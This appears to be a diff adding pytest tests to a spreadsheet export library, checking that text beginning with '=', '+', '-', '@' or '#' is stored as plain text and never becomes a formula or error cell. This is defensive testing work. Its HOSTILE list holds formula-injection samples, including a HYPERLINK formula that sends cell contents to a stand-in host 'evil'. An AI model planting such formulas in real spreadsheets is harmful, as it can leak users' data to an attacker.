@@ -88,10 +88,55 @@ def test_plain_rows_are_written_as_openpyxl_writes_them():
         Sheet("Uten format", [Column("Dato"), Column("Tall")], rows=[[when, 3], [datetime.date(2024, 2, 1), 4.0]]),
         Sheet("Tom", [Column("Kode")], rows=[], empty_text="Ingen koder"),
     ]
-    assert _parts(workbook_bytes(sheets)) == _parts(workbook_bytes(sheets, plain_rows=False))
+    fast = _parts(workbook_bytes(sheets))
+    assert fast == _parts(workbook_bytes(sheets, plain_rows=False))
+    # Text that openpyxl on its own writes as a formula or an error code is written as text by both.
+    sheet = fast["xl/worksheets/sheet1.xml"]
+    assert b'<c r="A7" t="inlineStr"><is><t>=SUM(B2:B3)</t></is></c>' in sheet
+    assert b'<c r="A8" t="inlineStr"><is><t>#N/A</t></is></c>' in sheet
+    assert b"<f>" not in sheet and b't="e"' not in sheet
 
 
 def test_illegal_characters_are_refused_as_openpyxl_refuses_them():
     sheet = Sheet("Ark", [Column("A")], rows=[["bjelle\x07"]])
     with pytest.raises(IllegalCharacterError):
         workbook_bytes([sheet])
+
+
+HOSTILE = ["=1+1", "+cmd", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil/?"&A1,"klikk")', "#REF!", " =1+1"]
+
+
+@pytest.mark.parametrize("plain_rows", [True, False])
+def test_text_is_written_as_text_never_as_a_formula(plain_rows):
+    """Text from submitters (record ids, paths, messages, names) is a text cell whatever it starts with, in
+    every part of a sheet and on both ways of writing rows; numbers, dates and booleans keep their types."""
+    when = datetime.datetime(2024, 3, 5, 14, 30)
+    sheets = [
+        Sheet(
+            "Funn",
+            [Column("=Tittel"), Column("Tall", 10, INTEGER), Column("Når", 17, DATETIME), Column("Andel", 9, PERCENT)],
+            rows=[[value, -12, when, -0.5] for value in HOSTILE] + [["ja", True, None, "=2+2"]],
+            total=["=SUM(B2:B8)", -84, None, "@x"],
+            notes=["=merknad", "-merknad"],
+        ),
+        Sheet("Tom", [Column("Kode")], rows=[], empty_text="=tom"),
+    ]
+    book = load_workbook(io.BytesIO(workbook_bytes(sheets, plain_rows=plain_rows)))
+    ws = book["Funn"]
+    assert (ws["A1"].value, ws["A1"].data_type) == ("=Tittel", "s")
+    for row, value in enumerate(HOSTILE, start=2):
+        text, number, date, share = ws[row]
+        assert (text.value, text.data_type) == (value, "s")
+        assert (number.value, number.data_type, number.number_format) == (-12, "n", INTEGER)
+        assert (date.value, date.is_date) == (when, True)
+        assert (share.value, share.data_type) == (-0.5, "n")
+    assert (ws["B9"].value, ws["B9"].data_type) == (True, "b")
+    assert (ws["D9"].value, ws["D9"].data_type) == ("=2+2", "s")
+    total = ws[10]
+    assert [(c.value, c.data_type) for c in total] == [("=SUM(B2:B8)", "s"), (-84, "n"), (None, "n"), ("@x", "s")]
+    assert (ws["A12"].value, ws["A12"].data_type) == ("=merknad", "s")
+    assert (ws["A13"].value, ws["A13"].data_type) == ("-merknad", "s")
+    assert (book["Tom"]["A2"].value, book["Tom"]["A2"].data_type) == ("=tom", "s")
+    for part, xml in _parts(workbook_bytes(sheets, plain_rows=plain_rows)).items():
+        if part.startswith("xl/worksheets/"):
+            assert b"<f>" not in xml and b't="e"' not in xml, part
